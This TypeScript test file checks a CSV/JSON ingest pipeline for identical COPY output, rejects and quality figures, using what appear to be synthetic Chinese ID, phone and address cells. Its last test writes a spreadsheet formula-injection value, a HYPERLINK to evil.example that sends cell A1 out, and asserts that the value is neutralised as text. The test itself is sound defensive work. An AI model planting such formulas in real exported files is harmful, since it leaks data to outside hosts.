import { readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isAlreadyStandard } from '../../platform/validators/standardize.js';
import type { DataElement } from '../catalog/schema.js';
import { ASCII, CopyWriter, copied, STANDARD } from './copy-writer.js';
import { type ParseJob, parseOpened, RejectsFile } from './parse.js';
import { openRecords } from './read/index.js';
import { pieces } from './read/test-support.js';
import type { Column } from './schema.js';

// The ingest reads CSV as bytes and checks most cells without decoding them (parse.ts onRaw);
// JSON and XLSX come as strings (onValues). Both must store exactly the same thing: the same
// COPY bytes, the same rejects with the same reasons, the same quality figures.

const element = (identifier: string, name: string, valueDomain: DataElement['valueDomain'], length?: number) =>
  ({ identifier, name, valueDomain, length: length ?? null }) as unknown as DataElement;
const ELEMENTS = [
  element('E_ID', '公民身份号码', { kind: 'validator', name: 'citizen-id' }),
  element('E_SEX', '性别', {
    kind: 'enum',
    values: [
      { code: '1', label: '男' },
      { code: '2', label: '女' },
    ],
  } as DataElement['valueDomain']),
  element('E_PHONE', '电话', { kind: 'validator', name: 'mobile' }),
  element('E_CODE', '户号', { kind: 'pattern', pattern: '[0-9]{3,9}' } as DataElement['valueDomain']),
  element('E_NATION', '民族', {
    kind: 'enum',
    values: [
      { code: '01', label: '汉族' },
      { code: '7', label: '七' },
      { code: 'LONGCODE', label: '长' },
    ],
  } as DataElement['valueDomain']),
];
const column = (n: number, item: string, type: Column['type'], extra: Partial<Column> = {}): Column => ({
  item,
  column: `c${n}`,
  type,
  length: null,
  dataElement: null,
  key: false,
  ...extra,
});
const COLUMNS: Column[] = [
  column(1, '姓名', 'string', { length: 4 }),
  column(2, '身份证', 'string', { dataElement: 'E_ID', key: true }),
  column(3, '性别', 'string', { dataElement: 'E_SEX' }),
  column(4, '出生', 'date'),
  column(5, '地址', 'string'),
  column(6, '电话', 'string', { dataElement: 'E_PHONE' }),
  column(7, '户号', 'string', { dataElement: 'E_CODE' }),
  column(8, '人数', 'integer'),
  column(9, '有效', 'boolean'),
  column(10, '民族', 'string', { dataElement: 'E_NATION', length: 1 }),
];

const CELLS: Record<string, string[]> = {
  姓名: ['张三', '欧阳娜娜娜', '  李四 ', 'Ｌｉ', 'a\\b', '王\u3000五', '𠮷野', '', 'x\ty', 'line\nbreak', '"引号"', '赵\u200b六'],
  身份证: [
    '370303195001074143',
    '370303195001074140',
    '37030319500107414x',
    '370303500107414',
    '',
    ' 370303195001074143',
    '３７０３０３１９５００１０７４１４３',
  ],
  性别: ['1', '2', '男', '女', '3', '', ' 1'],
  出生: [
    '1950-01-07',
    '1950/1/7',
    '19500107',
    '1950年1月7日',
    '1950-02-30',
    'x',
    '',
    '1799-12-31',
    '1800-01-01',
    '2200-12-31',
    '2201-01-01',
    '2000-02-29',
    '1900-02-29',
    '2024-13-01',
    '2024-00-10',
    '19a0-01-01',
  ],
  地址: ['山东省淄博市张店区湖田街道', 'a,b', '', 'tab\there', '全角（括号）', 'ＡＢＣ１２３', 'back\\slash', '\u00a0前后\u00a0', '😀', '\u007f'],
  电话: ['13812345678', '138 1234 5678', '+86 13812345678', '1381234567', ''],
  户号: ['733708824', '12', '１２３４', '', 'abc'],
  人数: ['12', '1,234', '-3', '1.5', 'x', ''],
  有效: ['是', '否', 'TRUE', 'f', 'maybe', ''],
  民族: ['01', '7', '汉族', '七', 'LONGCODE', '长', '1', ''],
};
const names = COLUMNS.map((c) => c.item);

const csvCell = (v: string) => (/[",\n\r]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);

async function run(bytes: Buffer, sizes: number[], asStrings: boolean) {
  const rejectsPath = join(tmpdir(), `jt-parse-test-${process.pid}-${Math.random().toString(36).slice(2)}.csv`);
  const job: ParseJob = { columns: COLUMNS, elements: ELEMENTS, mapping: {}, encoding: 'auto', tmpDir: tmpdir(), runSeq: 7, rejectsPath };
  const opened = await openRecords(pieces(bytes, sizes), { format: 'csv' });
  const chunks: Buffer[] = [];
  const result = await parseOpened(asStrings ? { ...opened, raw: null } : opened, job, {
    copy: async (d) => void chunks.push(Buffer.from(d)),
    progress: () => {},
  });
  let rejects = '';
  try {
    rejects = readFileSync(rejectsPath, 'utf8');
  } catch {}
  rmSync(rejectsPath, { force: true });
  return { copy: Buffer.concat(chunks).toString('utf8'), rejects, result, chunks: chunks.length };
}

describe('ingest: CSV read as bytes stores what the string path stores', () => {
  it('any table of awkward cells, cut anywhere: the same COPY rows, rejects and quality', async () => {
    const table = fc.array(fc.tuple(...names.map((n) => fc.constantFrom(...CELLS[n]))), { minLength: 1, maxLength: 40 });
    await fc.assert(
      fc.asyncProperty(table, fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 4 }), async (rows, sizes) => {
        const text = `${names.join(',')}\r\n${rows.map((r) => r.map(csvCell).join(',')).join('\r\n')}\r\n`;
        const bytes = Buffer.from(text);
        const raw = await run(bytes, sizes, false);
        const str = await run(bytes, [bytes.length], true);
        expect(raw.copy).toBe(str.copy);
        expect(raw.rejects).toBe(str.rejects);
        expect(raw.result).toEqual(str.result);
      }),
      { numRuns: 150 },
    );
  });

  it('what the rows become: standardized, checked, escaped for COPY', async () => {
    const text = `${names.join(',')}\n张三,370303195001074143,男,1950/1/7,a\\b,138 1234 5678,１２３４,"1,234",是,七\nＬｉ,370303500107414,2,19500107,ＡＢＣ１２３,,,,,\n`;
    const { copy, rejects, result } = await run(Buffer.from(text), [5], false);
    expect(copy).toBe(
      '张三\t370303195001074143\t1\t1950-01-07\ta\\\\b\t13812345678\t1234\t1234\tt\t7\t2\t7\n' +
        'Li\t370303195001074143\t2\t1950-01-07\tABC123\t\\N\t\\N\t\\N\t\\N\t\\N\t3\t7\n',
    );
    expect(rejects).toBe('');
    expect(result.loaded).toBe(2);
  });

  it('a row that fails goes to the rejects with every failing cell, and is not stored', async () => {
    const text = `${names.join(',')}\n欧阳娜娜娜,370303195001074140,3,1950-01-07,地址,,123,1,是,7\n`;
    const { copy, rejects, result } = await run(Buffer.from(text), [1000], false);
    expect(copy).toBe('');
    expect(result.snapshot.rowsRejected).toBe(1);
    expect(rejects.split('\n').filter(Boolean).slice(1)).toEqual([
      '2,姓名,欧阳娜娜娜,超过最大长度4',
      expect.stringMatching(/^2,身份证,370303195001074140,/),
      expect.stringMatching(/^2,性别,3,不在性别的代码表中/),
    ]);
  });
});

describe('CopyWriter.copyStandard', () => {
  const interesting = fc.constantFrom(
    ' ',
    '  ',
    '\t',
    '\n',
    '\u0000',
    '\u007f',
    '\u00a0',
    '\u1680',
    '\u2000',
    '\u200b',
    '\u202f',
    '\u205f',
    '\u3000',
    '\ufeff',
    '\uff01',
    '\uff5e',
    '\uff5f',
    '张',
    '𠮷',
    'a',
    '\\',
    '（',
    'é',
  );
  it('copies exactly the cells standardizeText leaves as they are, escaped for COPY, and counts code points', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(interesting, fc.string({ unit: 'grapheme', maxLength: 3 })), { minLength: 1, maxLength: 8 }), (parts) => {
        const s = parts.join('');
        if (s === '') return;
        const b = Buffer.from(s);
        const w = new CopyWriter();
        w.pos = 3;
        const flags = w.copyStandard(b, 0, b.length);
        expect(flags !== 0).toBe(isAlreadyStandard(s));
        if (!flags) {
          expect(w.pos).toBe(3);
          return;
        }
        expect(copied.from).toBe(3);
        expect(Buffer.from(w.buf.subarray(3, w.pos)).toString()).toBe(s.replaceAll('\\', '\\\\'));
        expect(copied.chars).toBe([...s].length);
        expect((flags & ASCII) !== 0).toBe([...s].every((c) => c.charCodeAt(0) < 0x80));
        expect(flags & STANDARD).toBe(STANDARD);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('the rejects file', () => {
  it('shows a rejected value that looks like a formula as text, not as a formula a spreadsheet would run', async () => {
    const path = join(tmpdir(), `jt-rejects-${process.pid}-${Math.random().toString(36).slice(2)}.csv`);
    try {
      const rejects = new RejectsFile(path);
      rejects.add(2, '公民身份号码', '=HYPERLINK("http://evil.example/?"&A1,"查看")', '校验位错误');
      rejects.add(3, '@姓名', '-1+1', '长度超过 10');
      await rejects.close();
      expect(readFileSync(path, 'utf8').split('\n').slice(1, 3)).toEqual([
        `2,公民身份号码,"'=HYPERLINK(""http://evil.example/?""&A1,""查看"")",校验位错误`,
        `3,'@姓名,'-1+1,长度超过 10`,
      ]);
    } finally {
      rmSync(path, { force: true });
    }
  });
});
